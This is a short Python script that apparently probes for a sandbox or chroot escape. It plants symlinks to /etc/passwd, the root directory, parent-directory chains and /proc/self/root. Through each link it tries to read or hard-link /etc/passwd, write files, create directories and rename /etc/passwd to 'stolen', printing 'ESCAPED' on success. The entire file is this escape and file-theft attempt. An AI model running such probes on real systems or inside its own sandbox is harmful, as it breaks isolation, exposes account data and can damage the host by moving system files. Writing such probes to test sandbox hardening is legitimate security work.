import os
for n, target in enumerate(["/etc/passwd", "/etc", "/", "..", "../..", "../../../../../../../../etc", "/proc/self/root", "/dev"]):
    link = f"link{n}"
    try:
        os.symlink(target, link)
    except OSError:
        continue
    for look in (lambda: open(link).read(), lambda: open(f"{link}/passwd").read(), lambda: open(f"{link}/etc/passwd").read(), lambda: os.listdir(f"{link}/etc"), lambda: open(f"{link}/x/y", "w"), lambda: os.mkdir(f"{link}/etc/x"), lambda: os.rename(f"{link}/etc/passwd", "stolen"), lambda: os.link(link + "/passwd", "stolen")):
        try:
            print("ESCAPED", target, look())
        except OSError:
            pass
print("done")
